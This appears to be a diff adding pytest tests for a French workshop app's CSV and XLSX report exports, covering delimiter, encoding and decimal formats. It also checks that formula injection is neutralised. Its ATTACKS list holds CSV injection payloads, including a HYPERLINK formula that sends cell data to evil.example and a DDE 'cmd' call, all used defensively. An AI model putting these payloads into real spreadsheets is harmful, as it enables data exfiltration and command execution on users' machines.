@@ -1,0 +1,151 @@
+"""The report's data files, read back as their users read them.
+
+- the open-data CSV: commas, UTF-8 (no byte-order mark), stable English codes, decimal point;
+- the spreadsheet CSV: what French Excel opens with a double click (semicolons, UTF-8 with a
+  byte-order mark, French headers and words, decimal comma);
+- formula injection (OWASP "CSV injection") neutralised in every CSV the app writes, the
+  synthesis's too, while numbers stay numbers.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import shutil
+import zipfile
+from datetime import date
+
+import pytest
+from openpyxl import load_workbook
+
+from workshop.content import default_kit, find_run_sheet
+from workshop.db import Database
+from workshop.demo import build_past_demo
+from workshop.models import CardKind, College
+from workshop.reports import export_report, export_synthesis
+from workshop.reports.data import DataTable, write_csv_zip, write_sheet_csv_zip
+from workshop.services import cards, participants, seminars
+
+ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")', "+SUM(A1:A9)", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "-2+3"]
+
+
+@pytest.fixture
+def sqlite(tmp_path, _sqlite_template):
+    path = tmp_path / "data.sqlite3"
+    shutil.copy(_sqlite_template, path)
+    database = Database(f"sqlite:///{path}")
+    yield database
+    database.dispose()
+
+
+def _zip(path, delimiter=","):
+    with zipfile.ZipFile(path) as archive:
+        raw = {n[:-4]: archive.read(n) for n in archive.namelist() if n.endswith(".csv")}
+    return raw, {k: list(csv.reader(io.StringIO(v.decode("utf-8-sig"), newline=""), delimiter=delimiter)) for k, v in raw.items()}
+
+
+@pytest.fixture(scope="module")
+def creil(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("data")
+    db = Database(f"sqlite:///{folder / 'creil.sqlite3'}")
+    db.create_schema()
+    demo = build_past_demo(db)
+    paths = export_report(db, demo.seminar_id, ["csv", "csv-tableur", "xlsx"], folder)
+    yield db, demo, paths
+    db.dispose()
+
+
+def test_open_data_csv_keeps_codes_commas_and_points(creil):
+    _db, _demo, paths = creil
+    raw, tables = _zip(paths["csv"])
+    assert all(not blob.startswith(b"\xef\xbb\xbf") for blob in raw.values())  # plain UTF-8
+    header, *rows = tables["cartes"]
+    assert header == ["carte_id", "type", "theme", "table", "texte", "precisions", "gommettes", "votes"]
+    assert {r[1] for r in rows} >= {"stake", "threat", "resource", "challenge"}
+    threats = [dict(zip(tables["menaces"][0], r)) for r in tables["menaces"][1:]]
+    assert any("." in r["probabilite"] for r in threats) and all("," not in r["probabilite"] for r in threats)
+    assert {r["lecture"] for r in threats} <= {"major", "grave", "likely", "minor", "unrated"}
+    links = [dict(zip(tables["liens"][0], r)) for r in tables["liens"][1:]]
+    assert {r["relation"] for r in links} <= {"weighs_on", "supports", "counters", "influences", "leads_to"}
+    with zipfile.ZipFile(paths["csv"]) as archive:
+        readme = archive.read("lisez-moi.txt").decode("utf-8")
+    assert "séparateur virgule" in readme and "cartes.csv" in readme and "carte_id, type, theme" in readme
+
+
+def test_spreadsheet_csv_opens_in_french_excel(creil):
+    """Semicolons, a byte-order mark, French headers and words, decimal comma: one column per field."""
+    _db, _demo, paths = creil
+    assert paths["csv-tableur"].name.endswith("_tableur-csv.zip")
+    raw, tables = _zip(paths["csv-tableur"], delimiter=";")
+    _, open_tables = _zip(paths["csv"])
+    assert set(tables) == set(open_tables)
+    for key, blob in raw.items():
+        assert blob.startswith(b"\xef\xbb\xbf"), key
+        assert b"\r\n" in blob  # Windows line ends
+        rows = tables[key]
+        assert len(rows) == len(open_tables[key])  # the same data, row for row
+        assert all(len(r) == len(rows[0]) for r in rows), key  # every line splits into the same columns
+    header, *rows = tables["cartes"]
+    assert header == ["N° de carte", "Type", "Thème", "Table", "Texte", "Précisions", "Gommettes", "Votes"]
+    assert {r[1] for r in rows} >= {"enjeu", "menace", "ressource", "défi"}
+    open_rows = {r[0]: r for r in open_tables["cartes"][1:]}
+    assert sum(int(r[6]) for r in rows) == sum(int(r[6]) for r in open_rows.values())
+    threats = tables["menaces"]
+    assert threats[0][:5] == ["N° de carte", "Texte", "Probabilité", "Gravité", "Sévérité"]
+    open_threats = {r[0]: r for r in open_tables["menaces"][1:]}
+    for row in threats[1:]:
+        assert row[2] == open_threats[row[0]][2].replace(".", ",")  # 3,4 where the open data say 3.4
+    assert any("," in row[2] for row in threats[1:])
+    assert {row[6] for row in threats[1:]} <= {"Majeure", "Grave, peu probable", "Probable, peu grave", "Secondaire",
+                                                "Non notée"}
+    run = tables["deroule"]
+    assert run[0][5] == "État" and {r[5] for r in run[1:]} == {"terminée"}
+    assert all(len(r[9]) == 16 and r[9][2] == "/" for r in run[1:])  # 02/10/2026 09:00
+    fields = dict(tables["seminaire"][1:])
+    assert fields["État"] == "terminé" and fields["Territoire"] == "Creil Sud Oise"
+    colleges = dict((r[0], r[2]) for r in tables["participation_colleges"][1:])
+    assert colleges["élu·e"] == "2"
+
+
+def test_every_csv_neutralises_formulas_and_xlsx_keeps_them_text(sqlite, tmp_path):
+    db = sqlite
+    demo = build_past_demo(db)
+    cards_made = [cards.add_card(db, demo.seminar_id, kind=CardKind.STAKE, text=text) for text in ATTACKS]
+    paths = export_report(db, demo.seminar_id, ["csv", "csv-tableur", "xlsx"], tmp_path)
+    ids = {str(c.id): c.text for c in cards_made}
+    for fmt, delimiter in (("csv", ","), ("csv-tableur", ";")):
+        _, tables = _zip(paths[fmt], delimiter)
+        rows = {r[0]: r for r in tables["cartes"][1:]}
+        for card_id, text in ids.items():
+            assert rows[card_id][4] == "'" + text, (fmt, rows[card_id])
+    workbook = load_workbook(str(paths["xlsx"]))
+    sheet = workbook["cartes"]
+    cells = {str(row[0].value): row[4] for row in sheet.iter_rows(min_row=2)}
+    for card_id, text in ids.items():
+        assert cells[card_id].value == text and cells[card_id].data_type == "s"
+
+    # the synthesis writes the same files: its card texts are neutralised too
+    other = build_past_demo(db, run_sheet="demi-journee-decouverte")
+    synthesis = export_synthesis(db, [demo.seminar_id, other.seminar_id], ["csv", "csv-tableur"], tmp_path)
+    for fmt, delimiter in (("csv", ","), ("csv-tableur", ";")):
+        _, tables = _zip(synthesis[fmt], delimiter)
+        texts = {r[8] for r in tables["regroupements"][1:]}
+        assert {"'" + a for a in ATTACKS} <= texts and not set(ATTACKS) & texts, fmt
+
+
+def test_numbers_stay_numbers_and_text_is_judged_by_its_type(tmp_path):
+    """-2 in a numeric column is data; "-2+3", "-2" typed as text and a leading tab are neutralised."""
+    table = DataTable("essai", "Essai", ("carte_id", "texte", "poids", "moyenne"), [
+        (1, "-2+3", -2, -1.5), (2, "\tcachée", 3, 2.25), (3, "-2", 0, None), (4, "\r=1+1", 1, 0.5),
+        (5, "Comment faire ? 2 = 2", 2, 1.0)])
+    write_csv_zip([table], tmp_path / "open.zip", readme="essai")
+    write_sheet_csv_zip([table], tmp_path / "sheet.zip", readme="essai")
+    _, open_data = _zip(tmp_path / "open.zip")
+    _, sheet = _zip(tmp_path / "sheet.zip", ";")
+    assert open_data["essai"][1:] == [["1", "'-2+3", "-2", "-1.5"], ["2", "'\tcachée", "3", "2.25"],
+                                      ["3", "'-2", "0", ""], ["4", "'\r=1+1", "1", "0.5"],
+                                      ["5", "Comment faire ? 2 = 2", "2", "1.0"]]
+    assert sheet["essai"][1:] == [["1", "'-2+3", "-2", "-1,5"], ["2", "'\tcachée", "3", "2,25"],
+                                  ["3", "'-2", "0", ""], ["4", "'\r=1+1", "1", "0,5"],
+                                  ["5", "Comment faire ? 2 = 2", "2", "1"]]
